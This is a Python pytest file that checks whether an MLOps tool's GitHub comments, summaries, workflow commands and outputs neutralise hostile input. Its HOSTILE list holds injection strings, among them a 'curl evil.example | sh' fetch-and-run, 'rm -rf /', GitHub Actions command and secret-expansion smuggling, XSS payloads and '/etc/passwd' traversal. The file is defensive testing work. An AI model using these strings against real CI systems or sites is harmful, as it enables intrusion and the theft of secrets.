"""Hostile text through every surface: shown as text, and never carried out, linked or mentioned."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

import pytest

from pytest_mlops.github.annotations import annotations_of
from pytest_mlops.github.comment import marker
from pytest_mlops.github.policy_changes import Effect, PolicyChange
from pytest_mlops.github.render import (
    COMMENT_CHARACTERS,
    OUTPUT_BYTES,
    SUMMARY_BYTES,
    fit_bytes,
    render,
    title,
)
from pytest_mlops.github.ruling import Ruling
from pytest_mlops.github.runner import (
    MOST,
    OUTPUTS,
    command_data,
    command_property,
    log_line,
    outputs_of,
    workflow_commands,
    write_outputs,
)
from pytest_mlops.github.source_location import SourceLocator
from pytest_mlops.github.step import PostOptions, StepEnvironment, post_step
from pytest_mlops.records.model import ModelVersion
from pytest_mlops.records.policy import Waiver
from pytest_mlops.records.results import OrdinaryTests, Outcome, SessionFacts
from pytest_mlops.records.rule import Rule
from pytest_mlops.verdict import Decision, Verdict

if TYPE_CHECKING:
    from pathlib import Path

    from pytest_mlops.records.integration import IntegrationResult
    from tests.github.conftest import FakeGitHub, Make

HOSTILE = [
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; rm -rf / #",
    '" && curl evil.example | sh && "',
    "${{ secrets.GITHUB_TOKEN }}",
    "${{ github.event.pull_request.title }}",
    "$GITHUB_TOKEN",
    "%GITHUB_TOKEN%",
    "a\nb",
    "a\r\n::error::pwned",
    "\n::set-output name=verdict::pass",
    "::set-output name=decision::allow",
    "::set-env name=PATH::/tmp",
    "::add-path::/tmp",
    "::add-mask::a",
    "::stop-commands::token",
    "::save-state name=x::y",
    "::error file=app.py,line=1::pwned",
    "  ::warning::indented",
    "%0A::error::decoded",
    "%250A::error::decoded twice",
    "##[error]pwned",
    "text ##[add-mask]a",
    "##[set-output name=verdict]pass",
    "###[group]x",
    "ghadelimiter_x\nverdict=pass",
    "verdict<<EOF\npass\nEOF",
    "EOF\nverdict=pass",
    "\u2028::error::line separator",
    "\u0085::error::next line",
    "\x0b::error::vertical tab",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x00null",
    "\x08\x08\x08erased",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='https://evil.example'>x</a>",
    "<details open><summary>PASS</summary>",
    "</details></table>",
    "<!-- pytest-mlops:0 -->",
    "--> out <!--",
    "<https://evil.example>",
    "<b>bold</b>&lt;i&gt;",
    "&#60;script&#62;",
    "&commat;team",
    "[link](https://evil.example)",
    "[link](javascript:alert(1))",
    "![image](https://evil.example/pixel.png)",
    "[ref]: https://evil.example",
    "[^1]: footnote",
    "https://evil.example/path?a=b",
    "http://evil.example",
    "ftp://evil.example",
    "HTTPS://EVIL.EXAMPLE",
    "www.evil.example",
    "WWW.evil.example",
    "eve@evil.example",
    "mailto:eve@evil.example",
    "xmpp:eve@evil.example",
    "@octocat",
    "@acme/security please approve",
    "x@octocat",
    "#1",
    "acme/models#1",
    "GH-1",
    "gh-22",
    "deadbeef",
    "acme/models@deadbeefdeadbeefdeadbeefdeadbeefdeadbeef",
    "0123456789abcdef0123456789abcdef01234567",
    ":white_check_mark: PASS",
    "**bold** __strong__ _em_ *em* ~~gone~~",
    "# heading",
    "## PASS: everything is allowed",
    "> quote",
    "- [x] done",
    "1. item",
    "---",
    "| cell | cell |\n|---|---|",
    "\\| escaped \\",
    "```\ncode\n```",
    "$$x^2$$ $`x`$",
    "pass\u202eliaf",
    "\u2066hidden\u2069",
    "\u200bzero\u200cwidth\u200d\ufeff",
    "\u3164\u115f\u2800",
    "\U000e0041tag",
    "\ud800",
    "a" * 1_000_000,
    "@x " * 300_000,
    "\n" * 1_000_000 + "::error::late",
    "<" * 1_000_000,
    "../../etc/passwd",
    "/etc/passwd",
    "😀 naïve ﷽ 日本語",
]

PAIRS = (
    *("heading", "paragraph", "bullet_list", "list_item", "strong", "blockquote"),
    *("table", "thead", "tbody", "tr", "th", "td"),
)
ALLOWED = {f"{kind}_{end}" for kind in PAIRS for end in ("open", "close")}
ALLOWED |= {"inline", "text", "softbreak", "html_block"}


def label(text: str) -> str:
    """Return what a record can hold of a text as a name: Unicode, not empty, at most 200 characters."""
    return text.encode("utf-8", "replace").decode()[:200] or "x"


def long(text: str) -> str:
    return text.encode("utf-8", "replace").decode()


def hostile_record(make: Make, text: str) -> IntegrationResult:
    """Put a text wherever a record takes one from outside."""
    name, whole = label(text), long(text)
    rules = (Rule(metric="accuracy", min=0.9, id=name),)
    waivers = (
        Waiver.model_validate(
            {
                "test": f"{name}*",
                "scope": "*",
                "reason": whole,
                "approver": whole,
                "expires": "2020-01-01",
            }
        ),
    )
    tests = (
        make.test(),
        make.test(whole, Outcome.FAILED, message=whole),
        make.test(f"test_x.py::{name}", Outcome.UNDECIDED, message=whole),
    )
    record = make.record(
        tests=tests,
        policy=make.PASSING.model_copy(update={"rules": rules, "waivers": waivers}),
        shares=(("accuracy", 80),),
        session=SessionFacts(interrupted=whole, collection_errors=(whole,)),
        model=ModelVersion(model_id=whole, version_id=whole, digest="0" * 64),
        made={"config": whole, "arguments": (whole,), "ci_run": whole, "commit_head": whole},
        run_id=whole,
    )
    results = record.test_results.model_copy(update={"ordinary": OrdinaryTests(failed=(whole,))})
    return record.model_copy(update={"test_results": results})


def hostile_ruling(make: Make, text: str) -> Ruling:
    record = hostile_record(make, text)
    change = PolicyChange(effect=Effect.LOOSENED, text=f"a new waiver by {long(text)}")
    return Ruling(
        verdict=record.verdict,
        decision=Decision.BLOCK,
        record=record,
        reasons=(long(text),),
        changes=(change,),
    )


def check_harmless(text: str) -> None:
    """Refuse Markdown that is more than the reports' own headings, tables, lists and folds."""
    markdown_it = pytest.importorskip("markdown_it")
    parser = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    shown: list[str] = []
    headings: list[str] = []

    def visit(tokens: list[Any]) -> None:
        for token in tokens:
            assert token.type in ALLOWED, (token.type, token.content[:200])
            if token.type == "heading_open":
                headings.append(token.tag)
            assert token.type != "bullet_list_open" or token.level == 0
            if token.type == "html_block":
                assert re.fullmatch(
                    r"<details><summary>[\w ,.]+</summary>|</details>", token.content.strip()
                ), token.content
            if token.type == "text":
                shown.append(token.content)
            visit(token.children or [])

    visit(parser.parse(text))
    titles = re.findall(r"^(#+) [A-Z]", text, re.MULTILINE)
    assert headings == [f"h{len(title)}" for title in titles]
    assert headings.count("h2") == 1
    for line in shown:
        for active in (
            r"@\w",
            r"[a-z]://",
            r"\bwww\.",
            r"#\w",
            r"\bGH-\d",
            r"\b(?:mailto|xmpp):\w",
            r"(?<!:):[a-z0-9_+-]+:(?!:)",
            r"(?<![0-9a-z])[0-9a-f]{7,39}(?![0-9a-z])",
        ):
            assert not re.search(active, line, re.IGNORECASE), (active, line[:300])


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_markdown_shows_it_and_does_nothing_else(make: Make, text: str) -> None:
    shown = render(hostile_ruling(make, text), budget=COMMENT_CHARACTERS, notes=(long(text),))
    assert len(shown) <= COMMENT_CHARACTERS
    check_harmless(shown)
    for char in "\u202e\u2066\u200b\u200c\u200d\ufeff\u3164\u115f\u2800\x1b\x00\x08\r":
        assert char not in shown


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_a_refusal_shows_it_and_does_nothing_else(text: str) -> None:
    ruling = Ruling(verdict=Verdict.INCOMPLETE, decision=Decision.BLOCK, problem=long(text), refused=True)
    check_harmless(render(ruling, budget=COMMENT_CHARACTERS, notes=(long(text),)))


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_what_is_printed_holds_no_command_but_ours(make: Make, text: str, tmp_path: Path) -> None:
    record = hostile_record(make, text)
    lines = workflow_commands(annotations_of(record, SourceLocator(tmp_path, (tmp_path,), long(text))))
    lines += [log_line(long(text)), log_line(title(hostile_ruling(make, text)))]
    assert len(lines) >= 5
    for line in lines[:-2]:
        match = re.fullmatch(r"::(error|warning|notice) ([^:\n\r]*)::([^\n\r]*)", line)
        assert match is not None, line
        for one in match[2].split(","):
            assert re.fullmatch(r"(file|line|title)=.*", one)
        assert not re.search(r"%(?!25|3A|2C)", match[2])
        assert not re.search(r"%(?!25)", match[3])
    for line in lines[-2:]:
        assert not line.strip().startswith("::")
        assert "##[" not in line
    assert all(line.isprintable() for line in lines)
    assert all(len(line) < 14_000 for line in lines)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_no_output_can_add_another(make: Make, text: str, tmp_path: Path) -> None:
    values = outputs_of(hostile_ruling(make, text), result=tmp_path, report=tmp_path)
    path = tmp_path / "output"
    write_outputs({**values, "result-path": long(text)}, path, token=iter("abcdefgh").__next__)
    content = path.read_text(encoding="utf-8")
    found = re.findall(r"^([a-z-]+)<<(ghadelimiter_[a-h])\n(.*)\n\2\n", content, re.MULTILINE)
    assert [name for name, _, _ in found] == list(OUTPUTS)
    assert len(content.splitlines()) == 3 * len(OUTPUTS)
    assert ("decision", "block") in {(name, value) for name, _, value in found}


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_what_is_sent_to_github_is_harmless(
    make: Make, fake: FakeGitHub, event: dict[str, Any], text: str, tmp_path: Path
) -> None:
    import httpx

    result = make.write(hostile_record(make, text), tmp_path)
    (tmp_path / "event.json").write_text(json.dumps(event), encoding="utf-8")
    logged: list[str] = []
    environment = StepEnvironment(
        environ={
            "GITHUB_ACTIONS": "true",
            "GITHUB_REPOSITORY": make.REPOSITORY,
            "GITHUB_EVENT_NAME": "pull_request",
            "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
            "GITHUB_WORKSPACE": str(tmp_path),
            "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
            "GITHUB_OUTPUT": str(tmp_path / "output"),
            "MLOPS_CHECK_RUN": "true",
            "MLOPS_TOKEN": "ghs_token",
        },
        log=logged.append,
        now=make.ENDED,
        transport=httpx.MockTransport(fake.answer),
    )
    assert post_step(PostOptions(result=result), environment).decision is Decision.BLOCK
    (comment,) = fake.comments
    assert comment["body"].startswith(marker("mlops\0\0"))
    check_harmless(comment["body"].partition("\n")[2])
    assert fake.checks[0]["output"]["title"].isprintable()
    check_harmless(fake.checks[0]["output"]["summary"])
    check_harmless((tmp_path / "summary").read_text(encoding="utf-8"))
    for one in fake.annotations[1]:
        assert not one["path"].startswith(("/", ".."))
        assert one["title"].isprintable()
        assert one["message"].isprintable()
    assert all(line.isprintable() for line in logged)


def test_there_are_at_least_sixty_hostile_strings() -> None:
    assert len(set(HOSTILE)) >= 60


def test_a_command_keeps_what_it_is_told_apart() -> None:
    assert command_data("100 %\n") == "100 %25"
    assert command_property("a:b,c%") == "a%3Ab%2Cc%25"


def test_a_log_line_that_looks_like_a_command_is_none() -> None:
    assert log_line("::error::x") == ": ::error::x"
    assert log_line("a ##[error]x") == "a # # [error]x"


def test_five_thousand_failing_rules_fit_after_few_renderings(make: Make, tmp_path: Path) -> None:
    record = make.many_rules(5000)
    change = PolicyChange(effect=Effect.LOOSENED, text="min of rule-0 is 0.9, was 0.99")
    ruling = Ruling(verdict=record.verdict, decision=record.decision, record=record, changes=(change,) * 5000)
    budgets: list[int] = []

    def write(budget: int) -> str:
        budgets.append(budget)
        return render(ruling, budget=budget)

    comment = write(COMMENT_CHARACTERS)
    summary = fit_bytes(write, SUMMARY_BYTES)
    output = fit_bytes(write, OUTPUT_BYTES)
    assert len(budgets) <= 5
    annotations = annotations_of(record, SourceLocator(tmp_path, (tmp_path,), "mlops.yaml"))
    commands = workflow_commands(annotations)
    assert 50_000 < len(comment) <= COMMENT_CHARACTERS
    assert 400_000 < len(summary.encode()) <= SUMMARY_BYTES
    assert len(output.encode()) <= OUTPUT_BYTES
    assert comment.index("FAIL") < comment.index("### Changes of the policy") < comment.index("- **FAIL**")
    shown = comment.count("| rule-")
    assert shown > 0
    assert f"{5000 - shown:,} more rules" in comment.splitlines()[-1]
    assert len(annotations) == 5000
    assert commands[MOST:] == ["::error title=mlops gate::4,992 more in the job summary"]


def test_a_text_whose_bytes_cannot_be_foretold_still_fits() -> None:
    text = "😀" * 30 + "a" * 1000
    assert fit_bytes(lambda budget: text[:budget], 100) == "😀" * 25
    assert fit_bytes(lambda budget: text[:budget], 0) == ""


def test_text_beyond_ascii_is_measured_in_bytes(make: Make) -> None:
    tests = tuple(make.test(f"t.py::{'日本語' * 20}{number}", Outcome.FAILED) for number in range(8000))
    record = make.record(tests=tests)
    ruling = Ruling(verdict=record.verdict, decision=record.decision, record=record)
    text = fit_bytes(lambda budget: render(ruling, budget=budget), SUMMARY_BYTES)
    assert SUMMARY_BYTES * 0.9 < len(text.encode()) <= SUMMARY_BYTES
    assert re.search(r"[\d,]+ more tests", text.splitlines()[-1])
